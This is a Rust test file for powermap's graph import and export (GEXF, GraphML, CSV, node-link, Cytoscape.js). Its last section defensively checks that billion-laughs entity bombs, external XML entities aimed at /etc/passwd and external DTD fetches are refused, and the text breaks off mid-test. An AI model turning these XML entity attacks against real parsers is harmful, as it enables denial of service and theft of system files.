//! Importing GEXF, GraphML, CSV, node-link, Cytoscape.js and GML files, exporting GEXF, GraphML
//! and node-link JSON, the round trips through each, and hostile or broken files.

use std::path::{Path, PathBuf};

use powermap::interop::{
    ConvertError, ExportError, ExportFormat, Finding, Format, ImportError, Imported, MAX_DEPTH,
    Place, convert, detect_format, export_network, export_to_string, import_bytes,
    import_csv_tables, import_file,
};
use powermap::network::dataset::load_default_network;
use powermap::network::load::load_file;
use powermap::network::model::{EntityKind, Network, Position, TieKind, TieStatus};
use powermap::network::save::{Overwrite, SaveError, save_network};

mod common;

fn fixture(name: &str) -> PathBuf {
    common::fixture_in("interop", name)
}

fn import(name: &str) -> Imported {
    common::import_fixture("interop", name)
}

fn import_error(name: &str) -> ImportError {
    match import_file(&fixture(name)) {
        Ok(imported) => panic!("{name} imported:\n{}", imported.report),
        Err(err) => err,
    }
}

fn name(network: &Network, id: &str, language: &str) -> String {
    let entity = network
        .entity(id)
        .unwrap_or_else(|| panic!("no entity {id}"));
    entity
        .name
        .get(language)
        .unwrap_or_else(|| panic!("{id} has no {language} name: {:?}", entity.name))
        .to_owned()
}

fn date(network: &Network, tie: &str) -> Option<String> {
    network
        .tie(tie)
        .unwrap_or_else(|| panic!("no tie {tie}"))
        .date
        .map(|date| date.to_string())
}

/// The node a compound node sits in: the affiliation tie its `parent` became.
fn parent_of<'a>(network: &'a Network, child: &str) -> Option<&'a str> {
    network
        .ties
        .iter()
        .find(|tie| {
            tie.kind == TieKind::Affiliate
                && tie.summary.starts_with("part of ")
                && tie.participants[0] == child
        })
        .map(|tie| tie.participants[1].as_str())
}

fn attribute<'a>(
    attributes: &'a powermap::network::model::Attributes,
    name: &str,
) -> Option<&'a str> {
    attributes.get(name)
}

// --- GEXF ---

#[test]
fn gexf_1_2_from_gephi() {
    let Imported {
        network,
        report,
        format,
    } = import("gephi-1.2.gexf");
    assert_eq!(format, Format::Gexf);
    assert_eq!(report.format_version.as_deref(), Some("1.2"));
    assert_eq!(network.description, "Chip deals, autumn 2025");
    assert_eq!(
        network.title, "gephi-1.2",
        "GEXF has no title: the file name gives it"
    );
    assert_eq!(name(&network, "lee", "ko"), "이재용");
    assert_eq!(name(&network, "openai", "en"), "OpenAI");
    let kinds: Vec<EntityKind> = network.entities.iter().map(|e| e.kind).collect();
    assert_eq!(
        kinds,
        [EntityKind::Person, EntityKind::Company, EntityKind::Company]
    );
    let lee = network.entity("lee").expect("lee");
    assert_eq!(
        lee.position,
        Some(Position {
            x: -120.5,
            y: -44.25
        }),
        "Gephi's y axis points up, powermap's down"
    );
    assert_eq!(attribute(&lee.attributes, "color"), Some("#1f77b4"));
    assert_eq!(attribute(&lee.attributes, "size"), Some("20.0"));
    assert_eq!(
        attribute(&lee.attributes, "country"),
        Some("KR"),
        "default value"
    );
    assert_eq!(attribute(&lee.attributes, "Modularity Class"), Some("0"));
    let openai = network.entity("openai").expect("openai");
    assert_eq!(attribute(&openai.attributes, "country"), Some("US"));

    let meeting = network.tie("0").expect("tie 0");
    assert_eq!(meeting.kind, TieKind::Meeting);
    assert_eq!(meeting.participants, ["lee", "openai"]);
    assert_eq!(date(&network, "0").as_deref(), Some("2025-10-01"));
    assert!(
        !meeting.attributes.contains_key("weight"),
        "GEXF's default weight"
    );
    let mou = network.tie("1").expect("tie 1");
    assert_eq!(mou.kind, TieKind::LetterOfIntent);
    assert_eq!(date(&network, "1").as_deref(), Some("2025-10"));
    assert_eq!(attribute(&mou.attributes, "weight"), Some("3.0"));
    assert_eq!(
        attribute(&mou.attributes, "note"),
        Some("Stargate & data centres")
    );
    let other = network.tie("2").expect("tie 2");
    assert_eq!(other.kind, TieKind::Other);
    assert_eq!(
        attribute(&other.attributes, "label"),
        Some("chairman of the group")
    );

    assert_eq!(report.counts.entities, 3);
    assert_eq!(report.counts.ties, 3);
    assert_eq!(report.counts.positions, 3);
    assert_eq!(report.counts.tie_kinds, 2);
    assert_eq!(report.counts.dates, 2);
    assert_eq!(report.entity_attributes.get("country"), Some(&3));
    assert_eq!(
        network.label_language, "en",
        "two labels of three are English"
    );
    let text = report.to_string();
    assert!(text.contains("3 ties have no evidence"), "{text}");
    assert_eq!(text.matches("no evidence").count(), 1, "said once: {text}");
}

#[test]
fn gexf_1_3_dynamics_become_dates_where_they_fit() {
    let Imported {
        network, report, ..
    } = import("dynamic-1.3.gexf");
    assert_eq!(report.format_version.as_deref(), Some("1.3"));
    assert_eq!(date(&network, "month").as_deref(), Some("2025-07"));
    assert!(network.tie("month").expect("month").attributes.is_empty());
    assert_eq!(date(&network, "day").as_deref(), Some("2025-06-13"));
    assert_eq!(report.count(Finding::TimeOfDay), 1, "09:30 was cut");
    assert_eq!(date(&network, "year").as_deref(), Some("2024"));
    // Two spells are not one date: the earliest start is, and the spells stay.
    let spells = network.tie("spells").expect("spells");
    assert_eq!(date(&network, "spells").as_deref(), Some("2020-01-01"));
    assert!(spells.attributes.contains_key("spells"));
    assert_eq!(attribute(&spells.attributes, "stake"), Some("0.5"));
    assert_eq!(report.count(Finding::LaterValue), 1, "the later stake");
    assert_eq!(date(&network, "stamps").as_deref(), Some("2025-06-13"));
    assert_eq!(
        network.tie("stamps").expect("stamps").kind,
        TieKind::Meeting
    );
    let tesla = network.entity("a").expect("a");
    assert_eq!(
        attribute(&tesla.attributes, "start"),
        Some("2003-07-01"),
        "entities have no dates: node times stay attributes"
    );
    assert_eq!(network.tie("month").expect("month").kind, TieKind::Supply);
    assert_eq!(network.tie("year").expect("year").kind, TieKind::Role);
    assert!(report.notes.iter().any(|note| note.contains("dynamic")));
}

#[test]
fn gexf_1_2_dynamics_with_numeric_times() {
    let Imported {
        network, report, ..
    } = import("dynamic-1.2.gexf");
    assert_eq!(report.format_version.as_deref(), Some("1.2"));
    assert_eq!(
        network.label_language, "ko",
        "two labels of three are Korean"
    );
    let years = network.tie("years").expect("years");
    assert_eq!(
        years.kind,
        TieKind::Role,
        "employment, read from `relation`"
    );
    assert_eq!(
        date(&network, "years").as_deref(),
        Some("2020"),
        "a whole year as a double"
    );
    assert!(years.attributes.is_empty(), "{:?}", years.attributes);
    let ticks = network.tie("ticks").expect("ticks");
    assert_eq!(ticks.kind, TieKind::Partnership, "alliance");
    assert_eq!(ticks.date, None, "3.5 is not a date");
    assert_eq!(attribute(&ticks.attributes, "start"), Some("3.5"));
    assert_eq!(attribute(&ticks.attributes, "end"), Some("4.0"));
    assert_eq!(report.count(Finding::UnreadableValue), 1);
    assert!(
        report.findings[&Finding::UnreadableValue].examples[0].contains("\"3.5\" is not a date"),
        "{report}"
    );
    assert_eq!(
        date(&network, "slices").as_deref(),
        Some("2025"),
        "GEXF 1.1 slices"
    );
    assert!(
        report
            .notes
            .iter()
            .any(|note| note.contains("time format double"))
    );
}

#[test]
fn gexf_1_1_meta_with_capitals() {
    let Imported {
        network, report, ..
    } = import("gexf-1.1.gexf");
    assert_eq!(report.format_version.as_deref(), Some("1.1"));
    assert_eq!(
        network.title, "Memory makers, who meets whom",
        "GEXF 1.1's <Title>"
    );
    assert_eq!(
        network.description, "Three companies and the meetings between them",
        "GEXF 1.1's <Description>"
    );
    assert!(
        report.findings.is_empty(),
        "<Creator> is read quietly: {report}"
    );
    // The viz namespace has one slash too many: elements are matched by local name.
    assert_eq!(report.counts.positions, 3);
    assert_eq!(
        network
            .entity("0.0")
            .expect("ids written as decimals")
            .position,
        Some(Position { x: 100.0, y: -50.0 }),
        "Gephi's y axis points up"
    );
    assert_eq!(name(&network, "1.0", "en"), "SK hynix");
    assert_eq!(
        attribute(&network.entity("0.0").expect("0.0").attributes, "Authority"),
        Some("0.25"),
        "the attribute's title names it"
    );
    assert!(
        network.tie("0").expect("0").attributes.is_empty(),
        "no weight"
    );
    assert_eq!(
        attribute(&network.tie("1").expect("1").attributes, "weight"),
        Some("8.0")
    );
    assert_eq!(network.tie("1").expect("1").participants, ["2.0", "0.0"]);
    assert!(report.notes.iter().any(|note| note.contains("directed")));
}

// --- positions at powermap's spacing ---

/// The lengths of the lines the map draws between placed entities: one for every pair of
/// a tie's participants.
fn line_lengths(network: &Network) -> Vec<f64> {
    let mut lengths = Vec::new();
    for tie in &network.ties {
        let ends: Vec<Position> = tie
            .participants
            .iter()
            .filter_map(|id| network.entity(id).and_then(|entity| entity.position))
            .collect();
        for (i, a) in ends.iter().enumerate() {
            for b in &ends[i + 1..] {
                lengths.push((a.x - b.x).hypot(a.y - b.y));
            }
        }
    }
    lengths
}

fn median(mut values: Vec<f64>) -> f64 {
    assert!(!values.is_empty(), "no values");
    values.sort_by(f64::total_cmp);
    let middle = values.len() / 2;
    if values.len().is_multiple_of(2) {
        (values[middle - 1] + values[middle]) / 2.0
    } else {
        values[middle]
    }
}

fn scaled_note(report: &powermap::interop::ImportReport) -> Option<&String> {
    report
        .notes
        .iter()
        .find(|note| note.starts_with("positions scaled"))
}

#[test]
fn wide_layouts_come_in_at_powermaps_spacing() {
    let link_distance = f64::from(powermap::layout::LayoutParams::default().link_distance);
    let Imported {
        network, report, ..
    } = import("gephi-wide-layout.gexf");
    // As written, with Gephi's y axis turned over: lines 1200, 900, 1500, 2915 and 3905
    // units long, a median of 1500.
    let written = [
        ("a", 0.0, 0.0),
        ("b", 1200.0, 0.0),
        ("c", 1200.0, 900.0),
        ("d", -1500.0, 2000.0),
        ("e", 3000.0, -2500.0),
    ];
    let line = median(line_lengths(&network));
    assert!((line - link_distance).abs() < 1e-6, "median line {line}");
    // The shape is kept: every distance shrank by the same factor.
    let factor = link_distance / 1500.0;
    for (i, &(a, ax, ay)) in written.iter().enumerate() {
        for &(b, bx, by) in &written[i + 1..] {
            let (pa, pb) = (position(&network, a), position(&network, b));
            let now = (pa.x - pb.x).hypot(pa.y - pb.y);
            let then = f64::hypot(ax - bx, ay - by);
            assert!(
                (now / then - factor).abs() < 1e-12,
                "{a}–{b}: {now} from {then}"
            );
        }
        let at = position(&network, a);
        assert!(
            (at.x - ax * factor).abs() < 1e-9 && (at.y - ay * factor).abs() < 1e-9,
            "{a} is scaled about the origin: {at:?}"
        );
    }
    assert_eq!(
        scaled_note(&report).map(String::as_str),
        Some(
            "positions scaled ×0.08 to powermap's spacing (their median line was 1500 units long)"
        ),
        "{report}"
    );
    assert!(report.to_string().contains("note: positions scaled ×0.08"));
}

#[test]
fn positions_at_powermaps_spacing_stay_exact() {
    for (file, id, written) in [
        ("gephi-1.2.gexf", "sds", Position { x: 10.0, y: -90.0 }),
        ("gexf-1.1.gexf", "2.0", Position { x: 20.0, y: 10.0 }),
        ("gephi.graphml", "wang", Position { x: -70.0, y: -30.0 }),
        ("yed.graphml", "n0", Position { x: 160.0, y: 215.0 }),
        ("yed-folder.graphml", "n1", Position { x: 340.0, y: 115.0 }),
        (
            "csv-gephi-export/edges.csv",
            "altman",
            Position { x: 10.0, y: -90.0 },
        ),
        (
            "cytoscape-object.cyjs",
            "102",
            Position { x: 60.0, y: -8.0 },
        ),
    ] {
        let Imported {
            network, report, ..
        } = import(file);
        assert_eq!(position(&network, id), written, "{file}");
        assert_eq!(scaled_note(&report), None, "{file}");
    }
}

#[test]
fn powermaps_own_files_are_never_scaled() {
    // Spread far beyond powermap's spacing, as a user may have dragged them.
    let mut network = default_network();
    for (i, entity) in network.entities.iter_mut().enumerate() {
        let i = i as f64;
        entity.position = Some(Position {
            x: 5000.0 * i + 0.125,
            y: -3000.0 * i - 1e-3,
        });
    }
    for (format, name) in [
        (ExportFormat::Gexf, "far.gexf"),
        (ExportFormat::GraphMl, "far.graphml"),
        (ExportFormat::NodeLink, "far.nodelink.json"),
    ] {
        let Imported {
            network: back,
            report,
            ..
        } = round_trip(&network, format, name);
        assert_eq!(back.entities, network.entities, "{name}");
        assert_eq!(scaled_note(&report), None, "{name}");
    }
}

// --- GraphML ---

#[test]
fn graphml_from_gephi() {
    let Imported {
        network,
        report,
        format,
    } = import("gephi.graphml");
    assert_eq!(format, Format::GraphMl);
    let byd = network.entity("byd").expect("byd");
    assert_eq!(byd.kind, EntityKind::Company, "organisation");
    assert_eq!(
        byd.position,
        Some(Position { x: -55.0, y: -12.5 }),
        "Gephi's y axis points up, powermap's down"
    );
    assert_eq!(attribute(&byd.attributes, "color"), Some("#2ca02c"));
    assert_eq!(name(&network, "sem", "ko"), "삼성전기");
    let role = network.tie("0").expect("0");
    assert_eq!(role.kind, TieKind::Role, "works_at");
    assert_eq!(role.participants, ["wang", "byd"]);
    assert_eq!(
        attribute(&role.attributes, "weight"),
        Some("1.0"),
        "GraphML has no default weight: Gephi writes every edge's, and it is kept"
    );
    let supply = network.tie("1").expect("1");
    assert_eq!(supply.kind, TieKind::Supply);
    assert_eq!(date(&network, "1").as_deref(), Some("2024"));
    assert_eq!(attribute(&supply.attributes, "weight"), Some("2.0"));
    assert!(report.notes.iter().any(|note| note.contains("directed")));
}

#[test]
fn graphml_from_yed() {
    let Imported {
        network, report, ..
    } = import("yed.graphml");
    assert_eq!(name(&network, "n0", "en"), "Lee Jae-yong");
    let lee = network.entity("n0").expect("n0");
    assert_eq!(
        lee.position,
        Some(Position { x: 160.0, y: 215.0 }),
        "the box's centre"
    );
    assert_eq!(attribute(&lee.attributes, "color"), Some("#FFCC00"));
    assert_eq!(
        attribute(&lee.attributes, "description"),
        Some("Samsung's chairman")
    );
    assert_eq!(name(&network, "n1", "en"), "Meta group");
    let zuckerberg = network.entity("n1::n0").expect("nested node");
    assert_eq!(parent_of(&network, &zuckerberg.id), Some("n1"));
    assert!(!zuckerberg.attributes.contains_key("parent"));
    let meeting = network.tie("e0").expect("e0");
    assert_eq!(meeting.kind, TieKind::Meeting);
    assert_eq!(
        attribute(&meeting.attributes, "description"),
        Some("Seoul, Leeum museum")
    );
    assert_eq!(report.counts.positions, 3);
}

#[test]
fn graphml_from_yed_folder_shows_its_active_realizer() {
    let Imported {
        network, report, ..
    } = import("yed-folder.graphml");
    assert!(report.findings.is_empty(), "{report}");
    assert_eq!(report.counts.positions, 3);
    // `y:Realizers active="1"`: yEd draws the second realizer, the closed folder.
    assert_eq!(name(&network, "n2", "en"), "Equipment makers");
    let folder = network.entity("n2").expect("n2");
    assert_eq!(
        folder.position,
        Some(Position { x: 210.5, y: 324.5 }),
        "the centre of the closed folder's 147 × 149 box, not of the open group's"
    );
    assert_eq!(attribute(&folder.attributes, "color"), Some("#CAECFF80"));
    assert_eq!(position(&network, "n0"), Position { x: 170.0, y: 115.0 });
    assert_eq!(network.tie("e1").expect("e1").participants, ["n2", "n1"]);
}

#[test]
fn graphml_from_graph_tool() {
    let Imported {
        network, report, ..
    } = import("graph-tool.graphml");
    assert_eq!(network.title, "qualcomm ties");
    let qualcomm = network.entity("qualcomm").expect("the original id");
    assert_eq!(qualcomm.position, Some(Position { x: 100.0, y: -10.0 }));
    assert_eq!(qualcomm.kind, EntityKind::Company);
    let role = network.tie("amon-ceo").expect("the original edge id");
    assert_eq!(role.participants, ["amon", "qualcomm"]);
    assert_eq!(role.kind, TieKind::Role);
    assert_eq!(attribute(&role.attributes, "strength"), Some("0.75"));
    assert!(report.notes.iter().any(|note| note.contains("graph-tool")));
    assert_eq!(report.count(Finding::Ignored), 1, "{report}");
    assert!(
        report.findings[&Finding::Ignored].examples[0].contains("\"dl\""),
        "a graph property, not read: {report}"
    );
}

// --- CSV ---

#[test]
fn csv_edges_table_finds_its_nodes_table_beside_it() {
    let edges = fixture("csv-gephi/network [Edges].csv");
    let Imported {
        network,
        report,
        format,
    } = import_file(&edges).expect("imports");
    assert_eq!(format, Format::Csv);
    assert_eq!(
        report.nodes_table.as_deref(),
        Some(fixture("csv-gephi/network [Nodes].csv").as_path())
    );
    assert!(
        report.encoding.contains("byte order mark"),
        "{}",
        report.encoding
    );
    assert!(
        report.notes.iter().any(|note| note.contains("semicolons")),
        "{:?}",
        report.notes
    );
    assert_eq!(network.entities.len(), 5);
    assert_eq!(name(&network, "lee", "ko"), "이재용");
    assert_eq!(
        network.entity("huang").expect("huang").kind,
        EntityKind::Person
    );
    assert_eq!(
        network.entity("nvidia").expect("nvidia").kind,
        EntityKind::Company
    );
    assert_eq!(
        attribute(
            &network.entity("lee").expect("lee").attributes,
            "Affiliation"
        ),
        Some("Samsung")
    );
    let chimaek = network.tie("chimaek").expect("the Id column");
    assert_eq!(chimaek.kind, TieKind::Meeting);
    assert_eq!(date(&network, "chimaek").as_deref(), Some("2025-10-30"));
    assert_eq!(
        attribute(&chimaek.attributes, "Note"),
        Some("fried chicken; beer")
    );
    assert_eq!(attribute(&chimaek.attributes, "Weight"), Some("1"));
    assert!(
        !chimaek.attributes.contains_key("Type"),
        "the direction is not an attribute"
    );
    assert_eq!(network.tie("e1").expect("generated").kind, TieKind::Supply);
    assert_eq!(
        network.tie("e2").expect("generated").kind,
        TieKind::LetterOfIntent
    );
    assert_eq!(date(&network, "e2").as_deref(), Some("2025-10-31"));
    assert_eq!(report.count(Finding::TimeOfDay), 1);
    assert_eq!(report.count(Finding::MissingNode), 1, "lee → ghost");
    assert!(
        report.findings[&Finding::MissingNode].examples[0].contains("line 5"),
        "{report}"
    );
    assert_eq!(network.ties.len(), 3);

    // The same, asked for explicitly.
    let explicit = import_csv_tables(Some(&fixture("csv-gephi/network [Nodes].csv")), &edges)
        .expect("imports");
    assert_eq!(explicit.network, network);
    // And from the nodes table's side.
    let from_nodes = import("csv-gephi/network [Nodes].csv");
    assert_eq!(from_nodes.network.ties.len(), 3);
}

#[test]
fn csv_edges_table_alone_makes_its_entities() {
    let Imported {
        network, report, ..
    } = import("csv-edges-only/edges.csv");
    assert_eq!(report.nodes_table, None);
    assert!(
        report
            .notes
            .iter()
            .any(|note| note.contains("no nodes table")),
        "{report}"
    );
    let ids: Vec<&str> = network.entities.iter().map(|e| e.id.as_str()).collect();
    assert_eq!(ids, ["Samsung C&T", "OpenAI", "Samsung Heavy Industries"]);
    assert_eq!(name(&network, "OpenAI", "en"), "OpenAI");
    assert_eq!(report.counts.names, 0, "named by their ids");
    assert!(
        network
            .ties
            .iter()
            .filter(|tie| !tie.is_self_loop())
            .all(|tie| tie.kind == TieKind::LetterOfIntent)
    );
    let meeting = network.tie("e2").expect("OpenAI's edge to itself is kept");
    assert_eq!(meeting.participants, ["OpenAI", "OpenAI"]);
    assert_eq!(meeting.kind, TieKind::Meeting);

    let without = import_csv_tables(None, &fixture("csv-edges-only/edges.csv")).expect("imports");
    assert_eq!(without.network, network);
}

#[test]
fn csv_from_gephis_exporter_with_timesets_and_positions() {
    let Imported {
        network, report, ..
    } = import("csv-gephi-export/edges.csv");
    assert!(report.findings.is_empty(), "{report}");
    assert!(report.notes.iter().any(|note| note.contains("directed")));
    // Gephi's `X` and `Y` columns: its y axis points up.
    assert_eq!(
        position(&network, "lee"),
        Position {
            x: -120.5,
            y: -44.25
        }
    );
    assert_eq!(position(&network, "huang"), Position { x: 80.0, y: 10.0 });
    assert_eq!(name(&network, "huang", "en"), "huang", "an empty Label");
    assert_eq!(report.counts.names, 2);
    // Two spells: the earliest start, and the spells stay.
    assert_eq!(date(&network, "0").as_deref(), Some("2025-10-30"));
    assert!(
        network
            .tie("0")
            .expect("0")
            .attributes
            .contains_key("timeset")
    );
    // An interval left open is "from then on", not one day: the start is the date and
    // the interval stays as an attribute.
    assert_eq!(date(&network, "1").as_deref(), Some("2025-10-30"));
    assert_eq!(
        attribute(&network.tie("1").expect("1").attributes, "timeset"),
        Some("<[2025-10-30, Infinity]>")
    );
    // An open start: the earliest start Gephi gives is the other spell's.
    assert_eq!(date(&network, "2").as_deref(), Some("2025-10-01"));
    assert_eq!(report.tie_attributes.get("timeset"), Some(&3));
    assert!(
        !network
            .ties
            .iter()
            .any(|tie| tie.attributes.contains_key("Type")),
        "the direction is not an attribute"
    );
}

#[test]
fn csv_in_euc_kr_is_detected_and_reported() {
    let Imported {
        network, report, ..
    } = import("csv-euc-kr/edges.csv");
    assert_eq!(report.encoding, "EUC-KR (CP949)");
    assert_eq!(name(&network, "이재용", "ko"), "이재용");
    assert_eq!(network.label_language, "ko");
    let meeting = network.tie("e0").expect("e0");
    assert_eq!(meeting.kind, TieKind::Meeting, "회동");
    assert_eq!(date(&network, "e0").as_deref(), Some("2025-10-01"), "날짜");
    assert_eq!(
        attribute(&meeting.attributes, "메모"),
        Some("서울 삼성전자 서초사옥")
    );
    assert_eq!(
        network.tie("e1").expect("e1").kind,
        TieKind::Contract,
        "계약"
    );
    assert!(report.to_string().contains("EUC-KR"));
}

#[test]
fn csv_in_utf16_with_tabs() {
    let Imported {
        network, report, ..
    } = import("csv-utf16/nodes.csv");
    assert_eq!(report.encoding, "UTF-16LE");
    assert_eq!(network.entities.len(), 2);
    assert_eq!(name(&network, "b", "ko"), "삼성");
    assert_eq!(network.entity("a").expect("a").kind, EntityKind::Person);
    assert!(network.ties.is_empty());
    assert!(
        report
            .notes
            .iter()
            .any(|note| note.contains("no edges table"))
    );
}

// --- node-link JSON ---

#[test]
fn node_link_with_indexes() {
    let Imported {
        network,
        report,
        format,
    } = import("d3-index.json");
    assert_eq!(format, Format::NodeLink);
    assert_eq!(name(&network, "0", "en"), "Lee Jae-yong");
    assert_eq!(network.entity("2").expect("2").kind, EntityKind::Company);
    let meeting = network.tie("e0").expect("e0");
    assert_eq!(meeting.participants, ["0", "1"]);
    assert_eq!(meeting.kind, TieKind::Meeting);
    assert_eq!(date(&network, "e0").as_deref(), Some("2025-10-01"));
    assert_eq!(attribute(&meeting.attributes, "value"), Some("3"));
    assert_eq!(
        network.tie("e1").expect("e1").kind,
        TieKind::Role,
        "employment"
    );
    assert_eq!(report.count(Finding::MissingNode), 1, "index 7");
    assert_eq!(
        attribute(&network.entity("0").expect("0").attributes, "group"),
        Some("1"),
        "a d3 group is not a powermap group"
    );
    assert!(report.notes.iter().any(|note| note.contains("index")));
}

#[test]
fn node_link_with_ids_from_networkx() {
    let Imported {
        network, report, ..
    } = import("networkx-ids.json");
    assert_eq!(network.title, "Qualcomm and Samsung");
    assert_eq!(name(&network, "2", "ko"), "삼성전자");
    assert_eq!(
        network.entity("2").expect("2").position,
        Some(Position { x: 0.5, y: -1.25 })
    );
    assert_eq!(report.count(Finding::DuplicateEntityId), 1);
    assert_eq!(
        name(&network, "3", "en"),
        "Cristiano Amon",
        "the first is kept"
    );
    let kinds: Vec<TieKind> = network.ties.iter().map(|tie| tie.kind).collect();
    assert_eq!(
        kinds,
        [TieKind::Role, TieKind::Supply, TieKind::Partnership]
    );
    assert_eq!(network.ties[0].participants, ["3", "1"]);
    assert_eq!(
        attribute(&network.ties[0].attributes, "since"),
        Some("2021")
    );
    assert_eq!(date(&network, "e2").as_deref(), Some("2024-02"));
    assert!(
        report.count(Finding::Ignored) >= 1,
        "graph.source is not read"
    );
}

// --- Cytoscape.js ---

#[test]
fn cytoscape_object_form_from_cytoscape_desktop() {
    let Imported {
        network,
        report,
        format,
    } = import("cytoscape-object.cyjs");
    assert_eq!(format, Format::Cytoscape);
    assert_eq!(network.title, "Amazon deals");
    assert_eq!(name(&network, "101", "en"), "Andy Jassy");
    let jassy = network.entity("101").expect("101");
    assert_eq!(jassy.position, Some(Position { x: -40.5, y: 12.0 }));
    assert_eq!(jassy.kind, EntityKind::Person);
    assert_eq!(attribute(&jassy.attributes, "SUID"), Some("101"));
    assert_eq!(
        attribute(&jassy.attributes, "shared_name"),
        Some("Andy Jassy")
    );
    assert_eq!(
        attribute(&jassy.attributes, "selected"),
        Some("false"),
        "written twice, on the element and in data: data's is kept"
    );
    assert_eq!(network.entity("103").expect("103").position, None);
    assert_eq!(report.count(Finding::UnreadablePosition), 1);
    // Cytoscape's y axis points down, as powermap's: positions are kept as they are.
    assert_eq!(
        network.entity("102").expect("102").position,
        Some(Position { x: 60.0, y: -8.0 })
    );
    let role = network.tie("201").expect("201");
    assert_eq!(role.kind, TieKind::Role, "interaction");
    assert_eq!(
        attribute(&role.attributes, "shared_interaction"),
        Some("role")
    );
    assert_eq!(attribute(&role.attributes, "SUID"), Some("201"));
    assert_eq!(
        attribute(&role.attributes, "networks"),
        Some("[\"deals\",\"people\"]"),
        "lists stay as compact JSON"
    );
    let deal = network.tie("202").expect("202");
    assert_eq!(deal.kind, TieKind::Partnership);
    assert_eq!(date(&network, "202").as_deref(), Some("2025-03"));
    assert_eq!(attribute(&deal.attributes, "classes"), Some("deal"));
    // The network's own data, but its name, is reported; `format_version`,
    // `generated_by` and `target_cytoscapejs_version` say nothing about the network.
    assert_eq!(report.count(Finding::Ignored), 3, "{report}");
    let ignored = &report.findings[&Finding::Ignored].examples;
    for key in ["shared_name", "SUID", "selected"] {
        assert!(
            ignored
                .iter()
                .any(|example| example.contains(&format!("data.{key}"))),
            "{key}: {ignored:?}"
        );
    }
    assert_eq!(report.dropped_or_changed(), 4, "3 ignored, 1 position");
}

#[test]
fn cytoscape_railway_names_its_stations_by_their_names_not_their_codes() {
    // As a real Cytoscape export of a railway network: `name` (and `shared_name`) hold
    // each station's code, `station_name` its name.
    let Imported {
        network, report, ..
    } = import("cytoscape-railway.cyjs");
    let tokyo = network.entity("3000").expect("3000");
    assert_eq!(tokyo.display_name("en"), "東京");
    assert_eq!(attribute(&tokyo.attributes, "name"), Some("1130101"));
    assert_eq!(attribute(&tokyo.attributes, "line_name"), Some("JR山手線"));
    assert_eq!(
        attribute(&tokyo.attributes, "station_name"),
        None,
        "it is the name"
    );
    let names: Vec<&str> = network
        .entities
        .iter()
        .map(|e| e.display_name("en"))
        .collect();
    assert!(
        names.iter().all(|name| !name.starts_with(char::is_numeric)),
        "{names:?}"
    );
    let note = report
        .notes
        .iter()
        .find(|note| note.contains("station_name"))
        .unwrap_or_else(|| panic!("no note on the names: {report}"));
    assert!(note.contains("\"1130101\""), "{note}");
    assert!(note.contains("View > Label by"), "{note}");
    // The usual Cytoscape file, named by names, is left as it is.
    let Imported { report, .. } = import("cytoscape-object.cyjs");
    assert!(
        report
            .notes
            .iter()
            .all(|note| !note.contains("names were read")),
        "{report}"
    );
}

#[test]
fn cytoscape_array_form() {
    let Imported {
        network, format, ..
    } = import("cytoscape-array.json");
    assert_eq!(format, Format::Cytoscape);
    assert_eq!(
        network.entities.len(),
        3,
        "a node listed after the edges still counts"
    );
    let jassy = network.entity("jassy").expect("jassy");
    assert!(jassy.pinned, "locked");
    assert_eq!(
        parent_of(&network, "jassy"),
        Some("amazon"),
        "a compound node's child is tied to its parent"
    );
    assert_eq!(
        network.tie("e2").expect("e2").participants,
        ["amazon", "samsung"]
    );
    assert_eq!(name(&network, "samsung", "ko"), "삼성전자");
}

// --- recognising formats ---

#[test]
fn formats_are_recognised_by_content_whatever_the_name() {
    for (name, format) in [
        ("gephi-1.2.gexf", Format::Gexf),
        ("yed.graphml", Format::GraphMl),
        ("d3-index.json", Format::NodeLink),
        ("cytoscape-array.json", Format::Cytoscape),
        ("csv-euc-kr/edges.csv", Format::Csv),
    ] {
        let bytes = std::fs::read(fixture(name)).expect("fixture");
        assert_eq!(
            detect_format(&bytes, Path::new("no-extension")),
            Some(format),
            "{name}"
        );
        let imported = import_bytes(&bytes, Path::new("no-extension")).expect("imports");
        assert_eq!(imported.format, format, "{name}");
    }
    let powermap =
        std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/examples/minimal.json"))
            .expect("example");
    assert_eq!(
        detect_format(&powermap, Path::new("x")),
        Some(Format::Powermap)
    );
}

#[test]
fn powermap_json_goes_to_powermaps_loader() {
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/examples/minimal.json");
    let imported = import_file(&example).expect("imports");
    assert_eq!(imported.format, Format::Powermap);
    assert_eq!(
        imported.network,
        load_file(&example).expect("loads").network
    );
    assert_eq!(imported.report.counts.evidence, 2);
    // Its diagnostics are the loader's own, with the JSON path.
    let broken = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/unknown-entity.json");
    match import_file(&broken) {
        Err(ImportError::Powermap(load)) => {
            assert!(
                load.diagnostics()
                    .iter()
                    .any(|d| d.path.contains("participants")),
                "{load}"
            );
        }
        other => panic!("expected the loader's diagnostics, got {other:?}"),
    }
}

#[test]
fn unknown_formats_say_what_is_read() {
    let error =
        import_bytes(b"hello, world\nthis is text\n", Path::new("notes.txt")).expect_err("unknown");
    assert!(
        matches!(error, ImportError::UnknownFormat { .. }),
        "{error}"
    );
    assert!(error.to_string().contains("GEXF"), "{error}");
}

// --- hostile and broken files ---

#[test]
fn billion_laughs_is_refused_without_expanding() {
    let error = import_error("hostile/billion-laughs.gexf");
    assert!(matches!(error, ImportError::Refused { .. }), "{error}");
    let text = error.to_string();
    assert!(text.contains("billion-laughs.gexf"), "{text}");
    assert!(text.contains("line 2"), "{text}");
    assert!(text.contains("<!ENTITY"), "{text}");
}

#[test]
fn external_entities_are_refused() {
    let error = import_error("hostile/external-entity.graphml");
    assert!(matches!(error, ImportError::Refused { .. }), "{error}");
    assert!(
        !error.to_string().contains("root:"),
        "nothing was read from /etc/passwd"
    );
}

#[test]
fn external_dtds_are_never_fetched() {
    // The port is closed: fetching would fail or hang; the DTD is ignored instead.
    let Imported {
        network, report, ..
    } = import("hostile/external-dtd.graphml");
    assert_eq!(network.entities.len(), 2);
    assert_eq!(report.count(Finding::Ignored), 1);
    assert!(report.findings[&Finding::Ignored].examples[0].contains("DOCTYPE"));
    // An entity the DTD would define is an error, not a lookup.
    let error = import_error("hostile/undefined-entity.gexf");
    let text = error.to_string();
    assert!(text.contains("nbsp"), "{text}");
    assert!(text.contains("line 7"), "{text}");
}

#[test]
fn truncated_files_are_located_errors() {
    let error = import_error("hostile/truncated.gexf");
    assert!(matches!(error, ImportError::Malformed { .. }), "{error}");
    let text = error.to_string();
    assert!(text.contains("truncated"), "{text}");
